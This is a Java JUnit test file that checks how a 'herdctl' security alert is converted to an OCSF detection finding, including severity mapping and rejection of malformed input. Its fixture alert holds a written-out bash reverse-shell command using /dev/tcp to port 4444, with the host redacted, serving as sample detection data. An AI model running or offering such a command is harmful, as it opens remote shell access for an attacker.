package io.herdctl.events;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Instant;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;

class OcsfFindingTest {

    private static final AuditAlertRaised ALERT = new AuditAlertRaised("alert-1", Instant.parse("2026-11-29T10:00:01Z"),
            1, "job-2026-11-29-abc123", "builder", 42, "reverse-shell", "A reverse shell was attempted", Severity.CRITICAL,
            "bash -i >& /dev/tcp/[REDACTED:secret-in-output]/4444", Instant.parse("2026-11-29T10:00:00Z"));

    @Test
    void isADetectionFindingWithTheRequiredBaseAttributes() throws Exception {
        JsonNode doc = EventJson.mapper().readTree(OcsfFinding.json(ALERT,
                new OcsfFinding.Context("c0ffee", "runner-1", "tool_use")));
        assertEquals(2004, doc.path("class_uid").asInt());
        assertEquals(2, doc.path("category_uid").asInt());
        assertEquals(1, doc.path("activity_id").asInt());
        assertEquals(200401, doc.path("type_uid").asInt());
        assertEquals(5, doc.path("severity_id").asInt());
        assertEquals("Critical", doc.path("severity").asText());
        assertEquals(Instant.parse("2026-11-29T10:00:01Z").toEpochMilli(), doc.path("time").asLong());
        assertEquals("1.3.0", doc.path("metadata").path("version").asText());
        assertEquals("herdctl", doc.path("metadata").path("product").path("name").asText());
        assertEquals("alert-1", doc.path("metadata").path("uid").asText());
        assertEquals("job-2026-11-29-abc123", doc.path("metadata").path("correlation_uid").asText());
        assertEquals("reverse-shell", doc.path("finding_info").path("analytic").path("uid").asText());
        assertEquals("A reverse shell was attempted", doc.path("finding_info").path("title").asText());
        JsonNode evidence = doc.path("evidences").get(0);
        assertEquals("c0ffee", evidence.path("container").path("uid").asText());
        assertEquals("runner-1", doc.path("unmapped").path("herdctl").path("runner_id").asText());
        assertEquals(42, evidence.path("data").path("seq").asLong());
        assertEquals("tool_use", evidence.path("data").path("line_type").asText());
        assertTrue(evidence.path("data").path("line").asText().contains("[REDACTED:secret-in-output]"));
        assertEquals("job-2026-11-29-abc123", doc.path("resources").get(0).path("uid").asText());
        assertEquals("builder", doc.path("resources").get(1).path("name").asText());
        assertEquals(Topics.JOB_OUTPUT, doc.path("finding_info").path("data_sources").get(0).asText(),
                "a finding on an output line was read from the job-output topic");
    }

    @Test
    void theDataSourceSaysWhatTheFindingWasReadFrom() throws Exception {
        JsonNode egress = EventJson.mapper().readTree(OcsfFinding.json(ALERT,
                new OcsfFinding.Context(null, null, "egress", "squid-access-log")));
        assertEquals("squid-access-log", egress.path("finding_info").path("data_sources").get(0).asText());
        assertEquals(1, egress.path("finding_info").path("data_sources").size());
        JsonNode none = EventJson.mapper().readTree(OcsfFinding.json(ALERT, OcsfFinding.Context.NONE));
        assertEquals(Topics.JOB_OUTPUT, none.path("finding_info").path("data_sources").get(0).asText());
    }

    @Test
    void severitiesMapToOcsfIds() {
        assertEquals(1, OcsfFinding.severityId(Severity.INFO));
        assertEquals(2, OcsfFinding.severityId(Severity.LOW));
        assertEquals(3, OcsfFinding.severityId(Severity.MEDIUM));
        assertEquals(4, OcsfFinding.severityId(Severity.HIGH));
        assertEquals(5, OcsfFinding.severityId(Severity.CRITICAL));
    }

    @Test
    void readsBackTheAlert() {
        assertEquals(ALERT, OcsfFinding.read(OcsfFinding.json(ALERT, OcsfFinding.Context.NONE)));
    }

    @Test
    void withoutAContainerTheEvidenceHasNone() throws Exception {
        JsonNode doc = EventJson.mapper().readTree(OcsfFinding.json(ALERT, null));
        assertFalse(doc.path("evidences").get(0).has("container"));
    }

    @Test
    void refusesWhatIsNotAHerdctlFinding() {
        MalformedEventException wrongClass = assertThrows(MalformedEventException.class,
                () -> OcsfFinding.read("{\"class_uid\":2001}"));
        assertTrue(wrongClass.getMessage().contains("class_uid 2001"), wrongClass.getMessage());
        assertThrows(MalformedEventException.class, () -> OcsfFinding.read("{\"class_uid\":2004}"));
        assertThrows(MalformedEventException.class, () -> OcsfFinding.read("not json"));
        assertThrows(MalformedEventException.class, () -> OcsfFinding.read(""));
    }
}
